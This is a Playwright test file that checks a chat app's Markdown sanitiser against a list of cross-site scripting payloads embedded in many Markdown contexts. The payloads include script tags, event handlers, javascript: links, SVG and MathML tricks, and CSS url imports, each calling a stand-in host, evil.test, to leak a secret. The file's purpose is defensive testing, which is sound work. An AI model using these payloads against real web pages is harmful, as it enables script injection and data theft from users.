import { fileURLToPath } from 'node:url';
import { expect, type Page, test } from '@playwright/test';
import { build, type Rollup } from 'vite';

/**
 * The chat's Markdown in a real browser, on a page without a content security policy: anything that gets past the
 * sanitiser would run here, and the test sees everything that loads.
 */
const evil = 'http://evil.test/leak?k=secret';

/** Payloads that become an element, an address or a style unless they are neutralised. */
const payloads = [
  `<script>fetch('${evil}')</script>`,
  `<img src="${evil}">`,
  `<img src=x onerror="fetch('${evil}')">`,
  `<img srcset="${evil} 1x">`,
  `<svg onload="fetch('${evil}')"></svg>`,
  `<svg><image href="${evil}"/></svg>`,
  `<svg><script>fetch('${evil}')</script></svg>`,
  `<svg><animate onbegin="fetch('${evil}')" attributeName="x" dur="1s"></svg>`,
  `<math><mtext><table><mglyph><style><img src="${evil}"></style></mglyph></table></mtext></math>`,
  `<iframe src="${evil}"></iframe>`,
  `<iframe srcdoc="<script>parent.fetch('${evil}')</script>"></iframe>`,
  `<object data="${evil}"></object>`,
  `<embed src="${evil}">`,
  `<video src="${evil}" autoplay></video>`,
  `<video poster="${evil}"></video>`,
  `<audio src="${evil}" autoplay></audio>`,
  `<source src="${evil}"><track src="${evil}">`,
  `<link rel="stylesheet" href="${evil}">`,
  `<link rel="prefetch" href="${evil}">`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  `<base href="${evil}">`,
  `<style>@import url("${evil}");</style>`,
  `<style>*{background:url("${evil}")}</style>`,
  `<p style="background:url('${evil}')">x</p>`,
  `<body background="${evil}" onload="fetch('${evil}')">`,
  `<table background="${evil}"><tr><td>x</td></tr></table>`,
  `<input autofocus onfocus="fetch('${evil}')">`,
  `<form action="${evil}"><button>x</button></form>`,
  `<details open ontoggle="fetch('${evil}')">x</details>`,
  `<a href="javascript:fetch('${evil}')">x</a>`,
  `<a href="${evil}" ping="${evil}">x</a>`,
  `<template><img src="${evil}"></template>`,
  `<noscript><p title="</noscript><img src='${evil}'>"></noscript>`,
  `<textarea></textarea><img src="${evil}">`,
  `<!--><img src="${evil}">-->`,
  `<![CDATA[<img src="${evil}">]]>`,
  `![x](${evil})`,
  `![x][ref]\n\n[ref]: ${evil}`,
  `[![x](${evil})](${evil})`,
  `[x](javascript:fetch('${evil}'))`,
  `[x](java\tscript:fetch('${evil}'))`,
  `[x](&#106;avascript:fetch('${evil}'))`,
  `[x](data:text/html,<img/src='${evil}'>)`,
  `[x](${evil} "a\\" onmouseover=\\"fetch('${evil}')")`,
  `[x](${evil}"onclick=fetch)`,
  `<javascript:fetch('${evil}')>`,
];

/** Where a payload may appear. */
const places: ((payload: string) => string)[] = [
  (it) => it,
  (it) => `Before ${it} after`,
  (it) => `# ${it}`,
  (it) => `> ${it}`,
  (it) => `- ${it}`,
  (it) => `1. - [x] ${it}`,
  (it) => `**${it}**`,
  (it) => `*${it}*`,
  (it) => `~~${it}~~`,
  (it) => `[${it}](https://example.org)`,
  (it) => `![${it}](https://example.org/a.png)`,
  (it) => `| a | b |\n|---|---|\n| ${it} | x |`,
  (it) => `\`${it}\``,
  (it) => `\`\`\`html\n${it}\n\`\`\``,
  (it) => `\`\`\`${it}\ntext\n\`\`\``,
  (it) => `<div>\n${it}\n</div>`,
];
const texts = payloads.flatMap((payload) => places.map((place) => place(payload)));

/** The chat's Markdown parser and sanitiser, bundled as one script. */
async function bundleMarkdown(): Promise<string> {
  const entry = fileURLToPath(new URL('markdown-entry.ts', import.meta.url));
  const built = await build({
    configFile: false,
    logLevel: 'error',
    build: { write: false, lib: { entry, formats: ['iife'], name: 'markdown' } },
  });
  const [bundle] = [built].flat() as Rollup.RollupOutput[];
  return bundle!.output[0].code;
}

interface MarkdownCode {
  readMarkdown: (text: string, growing?: boolean) => ({ kind: 'html'; html: string } | { kind: 'code' })[];
  sanitize: (html: string) => string;
}

/** Opens an empty page. @returns the list of its requests, which grows */
async function emptyPage(page: Page): Promise<string[]> {
  const requests: string[] = [];
  await page.route('**/*', async (route) => {
    const url = route.request().url();
    if (url === 'http://room.test/')
      return await route.fulfill({ contentType: 'text/html', body: '<!doctype html>' });
    requests.push(url);
    return await route.fulfill({ status: 204 });
  });
  await page.goto('http://room.test/');
  return requests;
}

/** Resolves once all earlier requests are recorded. */
const settled = (page: Page) => page.evaluate(async () => void (await fetch('/last')));

test(
  'W4 A104 nothing in the agent’s text runs, loads or links anywhere but to the web',
  { tag: '@gate' },
  async ({ page }) => {
    expect(texts.length).toBeGreaterThanOrEqual(600);
    const requests = await emptyPage(page);
    await page.addScriptTag({ content: await bundleMarkdown() });
    const found = await page.evaluate((given) => {
      const { readMarkdown, sanitize } = (window as unknown as { markdown: MarkdownCode }).markdown;
      const allowed = new Set(
        'P BR HR STRONG EM DEL CODE PRE BLOCKQUOTE A H1 H2 H3 H4 H5 H6 UL OL LI TABLE THEAD TBODY TR TH TD'.split(
          ' ',
        ),
      );
      const attributes = new Set('href title target rel start align'.split(' '));
      const bad: string[] = [];
      let links = 0;
      const draw = (text: string, growing: boolean): void => {
        const place = document.body.appendChild(document.createElement('div'));
        for (const block of readMarkdown(text, growing)) {
          if (block.kind === 'html') place.insertAdjacentHTML('beforeend', sanitize(block.html));
        }
        for (const element of place.querySelectorAll('*')) {
          const names = element.getAttributeNames();
          const leads = element instanceof HTMLAnchorElement ? element.protocol : 'https:';
          if (element instanceof HTMLAnchorElement) links++;
          if (
            !allowed.has(element.tagName) ||
            names.some((name) => !attributes.has(name)) ||
            !['http:', 'https:', 'mailto:'].includes(leads) ||
            (element instanceof HTMLAnchorElement && element.title !== element.href)
          ) {
            bad.push(`${text} → ${element.outerHTML}`);
          }
        }
      };
      for (const text of given) {
        draw(text, false);
        // As if still growing, cut at one third and two thirds.
        for (const part of [1, 2]) draw(text.slice(0, Math.floor((text.length * part) / 3)), true);
      }
      return { bad, links };
    }, texts);
    await settled(page);
    expect(found.bad).toEqual([]);
    expect(found.links).toBeGreaterThan(100);
    expect(requests).toEqual(['http://room.test/last']);
  },
);

test('A104 the same payloads do load as plain HTML, so the test would notice', async ({ page }) => {
  const requests = await emptyPage(page);
  await page.evaluate(
    (given) => {
      for (const html of given) document.body.appendChild(document.createElement('div')).innerHTML = html;
    },
    payloads.filter((payload) => !payload.includes('http-equiv') && !payload.startsWith('<base')),
  );
  await expect.poll(() => requests.filter((url) => url === evil).length).toBeGreaterThan(5);
});
